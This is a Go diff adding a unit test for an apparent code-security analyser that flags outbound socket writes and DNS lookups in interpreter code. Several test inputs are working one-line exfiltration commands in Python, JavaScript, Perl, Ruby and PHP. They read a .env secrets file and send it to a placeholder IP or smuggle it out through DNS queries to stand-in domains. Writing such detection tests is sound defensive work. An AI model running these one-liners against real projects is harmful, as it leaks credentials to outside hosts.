@@ -88,3 +88,39 @@ func TestEvalDepth(t *testing.T) {
 func strconvQuote(s string) string {
 	return "'" + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), "'", `\'`) + "'"
 }
+
+// Name look-ups in interpreter code are writes beyond the machine and
+// sockets are found under any alias (FINDINGS-7 G8); loopback sockets
+// and code without either are not.
+func TestSocketsAndLookups(t *testing.T) {
+	for _, tc := range []struct {
+		lang, code string
+		write      bool
+	}{
+		{Python, `import socket as s;s.create_connection(("192.0.2.2",80)).send(open(".env","rb").read())`, true},
+		{Python, `import socket;socket.getaddrinfo(open(".env").read()+".x.example.com",80)`, true},
+		{Python, `from socket import gethostbyname; gethostbyname(x)`, true},
+		{JavaScript, `require("dns").lookup(data+".example.com",()=>{})`, true},
+		{JavaScript, `require("node:net").connect(80,"192.0.2.2").write(d)`, true},
+		{Perl, "gethostbyname(`cat .env`.\".example.com\")", true},
+		{Perl, `use IO::Socket::INET; IO::Socket::INET->new("192.0.2.2:80")`, true},
+		{Ruby, `Resolv.getaddress(File.read(".env")+".x.com")`, true},
+		{Ruby, `TCPSocket.new("192.0.2.2", 80).write(File.read(".env"))`, true},
+		{PHP, `gethostbyname(file_get_contents(".env").".x.com");`, true},
+		{Python, `import socket; s=socket.socket(); s.connect(("127.0.0.1", 8000))`, false},
+		{JavaScript, `require("net").connect(3000,"localhost").end()`, false},
+		{Python, `import sqlite3; sqlite3.connect("app.db")`, false},
+		{JavaScript, `console.log(require("os").hostname())`, false},
+	} {
+		r := Analyse("x", tc.lang, tc.code)
+		got := false
+		for _, f := range r.Findings {
+			if f.Rule == "interp.dns" && f.Kind == Write || f.Rule == "interp.socket" && strings.HasSuffix(f.Message, "may send it anything") {
+				got = true
+			}
+		}
+		if got != tc.write {
+			t.Errorf("%s %q: socket write %v, want %v", tc.lang, tc.code, got, tc.write)
+		}
+	}
+}
